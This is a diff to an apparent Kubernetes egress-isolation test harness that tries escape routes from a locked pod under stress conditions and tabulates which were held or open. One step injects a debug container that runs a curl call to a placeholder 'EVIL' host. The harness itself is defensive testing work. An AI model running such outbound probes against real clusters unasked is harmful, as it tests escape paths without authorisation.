@@ -53,6 +53,8 @@ export async function attack(cluster: Cluster, internet: Internet, report: Repor
 
 async function scenarios(cluster: Cluster, witness: Witness, report: Report): Promise<void> {
   let all: readonly Way[] = [];
+  /** What came of each way, by the situation that it was tried in. */
+  const tried = new Map<string, Map<string, string>>();
   const from = (pod: string, some: readonly Way[] = all): Promise<Attempted[]> =>
     attempt(cluster, witness, some, {namespace: APP, pod, free: pod === 'free'});
   /** A pod has another address after a restart. */
@@ -62,12 +64,14 @@ async function scenarios(cluster: Cluster, witness: Witness, report: Report): Pr
     all = ways({podIp: await field('pod', '{.status.podIP}'), serviceIp: await field('service', '{.spec.clusterIP}')});
   };
   /** One round: first the free pod's, then the locked one's; what is told is how many were held. */
-  const round = async (some: readonly Way[] = all, pod = 'locked'): Promise<string> => {
+  const round = async (situation: string, some: readonly Way[] = all, pod = 'locked'): Promise<string> => {
     const late = (await from('free', some)).filter(({out}) => out === null).map(({way}) => way);
     // On a busy machine a program may be late: once more, with fewer beside it.
     const missing = late.length === 0 ? '' : unproved(await from('free', late));
     expect(missing === '', `these prove nothing, since nothing arrives from a free pod either: ${missing}`);
-    const result = held(await from(pod, some));
+    const attempts = await from(pod, some);
+    tried.set(situation, new Map(attempts.map(({way, out}) => [way.id, out === null ? 'held' : 'open'])));
+    const result = held(attempts);
     // What is held by a wall is only worth something where there is a door.
     if (some === all && pod === 'locked') {
       const allowed = await curlIn(cluster, APP, 'locked', 'https://storage.googleapis.com/public/index.html');
@@ -102,11 +106,14 @@ async function scenarios(cluster: Cluster, witness: Witness, report: Report): Pr
     await makePod(cluster, {namespace: APP, name: 'locked', labels: LOCKED});
     await know();
   });
-  await report.step('as it is', () => round());
+  await report.step('as it is', () => round('as it is'));
   await report.step('with the agent killed, again and again', async () => {
     const stop = killing(cluster);
     try {
-      return await round(all.filter(({ofAgent}) => ofAgent !== true));
+      return await round(
+        'agent killed',
+        all.filter(({ofAgent}) => ofAgent !== true),
+      );
     } finally {
       await stop();
     }
@@ -114,7 +121,7 @@ async function scenarios(cluster: Cluster, witness: Witness, report: Report): Pr
   await report.step('with our tables deleted by somebody else, while datagrams are sent all the time', () =>
     whileFlushed(cluster, witness),
   );
-  await report.step('after that', () => round());
+  await report.step('after that', () => round('tables deleted'));
   const lockedToken = newToken();
   await report.step('from the first instruction of a pod, and of its neighbour that is free', () =>
     fromTheStart(cluster, witness, lockedToken),
@@ -122,14 +129,14 @@ async function scenarios(cluster: Cluster, witness: Witness, report: Report): Pr
   await report.step('with labels and annotations changed by the pod’s own account', async () => {
     await makePod(cluster, {namespace: APP, name: 'changes', labels: LOCKED});
     await changeLabels(cluster, 'changes');
-    return round(all, 'changes');
+    return round('labels changed', all, 'changes');
   });
   await report.step('from a container that is put into the pod while it runs', async () => {
     await cluster.must([
       ...['-n', APP, 'debug', 'locked', '--image=localhost/tools:1', '--image-pull-policy=Never', '-c', 'guest'],
       ...['--attach=false', '--', 'sh', '-c', `curl -s -m 3 http://${EVIL}/guest; echo "guest $?"; sleep 86400`],
     ]);
-    return round();
+    return round('a container put in');
   });
   await report.step('after a restart of the machine, with no agent: pods come first', () =>
     afterReboot(cluster, witness, lockedToken),
@@ -138,8 +145,17 @@ async function scenarios(cluster: Cluster, witness: Witness, report: Report): Pr
     await cluster.must(['-n', APP, 'wait', '--for=condition=Ready', 'pod/locked', 'pod/free', '--timeout=180s']);
     await cluster.must(['-n', APP, 'wait', '--for=condition=Ready', 'pod', RELAY.name, '--timeout=120s']);
     await know();
-    return round();
+    return round('after a restart');
   });
+  const situations = [...tried.keys()];
+  report.table(
+    ['way', 'what', ...situations],
+    all.map(({id, title, open}) => [
+      id,
+      open === undefined ? title : `${title} (${open})`,
+      ...situations.map((situation) => tried.get(situation)!.get(id) ?? ''),
+    ]),
+  );
 }
 
 /** Kills the agent's first process whenever there is one; resolves after the last one is up again. */
